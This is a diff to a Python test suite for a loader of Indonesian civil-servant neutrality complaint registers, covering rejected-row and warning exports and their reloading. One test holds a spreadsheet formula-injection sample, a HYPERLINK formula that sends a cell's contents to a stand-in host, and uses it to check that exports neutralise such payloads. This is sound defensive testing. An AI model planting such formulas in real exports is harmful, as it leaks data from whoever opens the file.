@@ -25,6 +25,7 @@ CASES_SQL = """select case_id, subject_no, election, source_agency, incident_dat
                       status, severity, severity_inferred, source_row
                from cases order by election desc, source_row, subject_no"""
 REJECTED_SQL = 'select row_number, "column", value, reason from rejected_rows order by rowid'
+LAST_LOAD_SQL = "select load_id from load_batches order by loaded_at desc limit 1"
 BATCH_SQL = """select source_file, election, rows_read, rows_loaded, rows_rejected, rows_duplicate
                from load_batches order by loaded_at"""
 
@@ -422,13 +423,14 @@ def test_rejected_rows_go_to_a_file_that_loads_again_once_corrected(warehouse_di
     [sheet] = read_register(out).sheets
     assert list(sheet.frame["Baris"]) == ["9"]
     assert sheet.labels[0] == "Baris" and sheet.labels[-1] == "Alasan"
-    fixed = sheet.frame.copy()
-    fixed.loc[2, "Kab/Kota"] = "Kab. Batang"
-    fixed.to_csv(out, index=False)
+    text = out.read_text(encoding="utf-8-sig")
+    assert text.splitlines()[:2] == ["Daftar aduan netralitas ASN – KASN",  # the register's title line, kept
+                                     f"Berkas asal: kasn.csv (muatan {query(LAST_LOAD_SQL)[0][0]})"]
+    out.write_text(text.replace(",,,Cici", ",,Kab. Batang,Cici"), encoding="utf-8-sig")  # the steward's fix
     assert main(["load", str(out)]) == 0
-    assert query("select case_id, subject_no, source_agency, extra from cases where load_id = "
+    assert query("select case_id, subject_no, source_agency, region_code, extra from cases where load_id = "
                  "(select load_id from load_batches order by loaded_at desc limit 1)") == [
-        ("KASN-005", 1, "lainnya", '{"No.": "7"}')]  # Baris and Alasan are Netra's own: not kept
+        ("KASN-005", 1, "kasn", "33.25", '{"No.": "7"}')]  # read like the original; Baris, Alasan not kept
 
 
 def test_rejected_as_xlsx(warehouse_dir, tmp_path):
@@ -446,9 +448,10 @@ def test_rejected_as_xlsx(warehouse_dir, tmp_path):
     out = tmp_path / "ditolak.xlsx"
     assert main(["rejected", "--out", str(out)]) == 0
     rows = list(load_workbook(out).active.iter_rows(values_only=True))
-    assert rows[0][:3] == ("Baris", "Lembar", "No") and rows[0][-1] == "Alasan"
-    assert [row[:3] for row in rows[1:]] == [(2, "Pilkada 2024", "1"), (2, "Lembar 2", "1")]
-    assert rows[1][-1].count("\n") == 1  # two problems of that row, one per line
+    assert rows[0][0].startswith("Berkas asal: dua_lembar.xlsx (muatan ") and set(rows[1]) == {None}
+    assert rows[2][:3] == ("Baris", "Lembar", "No") and rows[2][-1] == "Alasan"
+    assert [row[:3] for row in rows[3:]] == [(2, "Pilkada 2024", "1"), (2, "Lembar 2", "1")]
+    assert rows[3][-1].count("\n") == 1  # two problems of that row, one per line
 
 
 def test_cli_status(warehouse_dir, registers, capsys):
@@ -506,7 +509,7 @@ def test_rejected_rows_never_become_live_formulas_and_load_back_as_sent(warehous
         assert main(["rejected", "--out", str(out)]) == 0
         if suffix == ".xlsx":
             sheet = load_workbook(out).active
-            cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+            cells = [cell for row in sheet.iter_rows(min_row=5) for cell in row]  # below hint lines, header
             assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
             assert [cell.value for cell in cells][1:2] == ['\'=HYPERLINK("http://x.example/?"&A1,"klik")']
         else:
@@ -514,3 +517,22 @@ def test_rejected_rows_never_become_live_formulas_and_load_back_as_sent(warehous
         [sheet] = read_register(out).sheets  # the loader reads back what the steward sent
         assert sheet.frame.iloc[0]["No. Register"] == '=HYPERLINK("http://x.example/?"&A1,"klik")'
         assert sheet.frame.iloc[0]["Uraian"] == "@SUM(A1)"
+
+
+def test_a_corrected_warning_replaces_the_record_it_came_from(warehouse_dir, tmp_path):
+    register = tmp_path / "status.csv"
+    register.write_text("No. Register,Nama Terlapor,Tanggal Kejadian,Kabupaten/Kota,Status,Pemilihan\n"
+                        "R-1,Budi,10/10/2024,Kab. Batang,Kotak,Pilkada 2024\n"
+                        "R-2,Siti,10/10/2024,Kab. Batang,Terbukti,Pilkada 2024\n", encoding="utf-8")
+    assert main(["load", str(register)]) == 0  # every row loaded; one status could not be read
+    assert query("select case_id, status from cases order by case_id") == [("R-1", "dilaporkan"), ("R-2", "terbukti")]
+    out = tmp_path / "peringatan.csv"
+    assert main(["rejected", "--warnings", "--out", str(out)]) == 0
+    lines = out.read_text(encoding="utf-8-sig").splitlines()
+    assert lines[2].startswith("Baris,No. Register,") and lines[2].endswith(",Peringatan")
+    assert lines[3].startswith("2,R-1,Budi,10/10/2024,Kab. Batang,Kotak,Pilkada 2024,")
+    out.write_text("\n".join(lines).replace(",Kotak,", ",Sudah ditindaklanjuti PPK,"), encoding="utf-8")
+    assert main(["load", str(out)]) == 0  # not a duplicate: the corrected row replaces the record
+    assert query("select case_id, subject_no, status from cases order by case_id") == [
+        ("R-1", 1, "disanksi"), ("R-2", 1, "terbukti")]
+    assert query("select count(*) from load_warnings") == [(0,)]  # the corrected warning is gone
